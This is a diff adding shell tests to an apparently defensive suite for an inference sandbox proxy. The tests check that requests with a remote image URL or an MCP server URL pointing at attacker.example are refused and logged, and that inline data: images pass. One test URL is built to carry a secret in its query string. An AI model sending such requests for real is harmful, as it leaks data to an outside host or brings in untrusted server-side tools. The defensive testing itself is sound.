@@ -284,6 +284,19 @@ assert_eq "over the limit, refused at the head, its body never sent" 429 "$(jq -
 assert_eq "the limit is per account" 200 \
     "$(jq -r '.responses[0].status' <<<"$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}')")"
 
+# ---- the provider must not reach the network for the user: remote URLs, server-side tools ----
+before=$(grep -c '"path"' "$INF_REC")
+r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/x.png?d=secret"}}]}]}}')
+assert_eq "a remote image URL for the provider to fetch" "403 remote_url_not_allowed" \
+    "$(jq -r '"\(.responses[0].status) \(.responses[0].headers["x-sandbox-deny"])"' <<<"$r")"
+r=$(inf_req infuser --req '{"path":"/v1/responses","body":{"model":"fast","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]}}')
+assert_eq "an MCP server for the provider to call" "403 server_tools_not_allowed" \
+    "$(jq -r '"\(.responses[0].status) \(.responses[0].headers["x-sandbox-deny"])"' <<<"$r")"
+assert_match "  ... logged" '"reason":"server_tools_not_allowed"' "$(proxy_log_last '"uid":'"$(id -u infuser)" '"decision":"deny"')"
+assert_eq "  ... and the backend got neither" "$before" "$(grep -c '"path"' "$INF_REC")"
+r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]}]}}')
+assert_eq "an inline (data:) image still goes" 200 "$(jq -r '.responses[0].status' <<<"$r")"
+
 # ---- other ports of the name go through policy; a profile without models is denied ----
 for port in 80 8443; do
     r=$(inf_req infnomodel --port "$port" --req '{"method":"GET","path":"/v1/models"}')
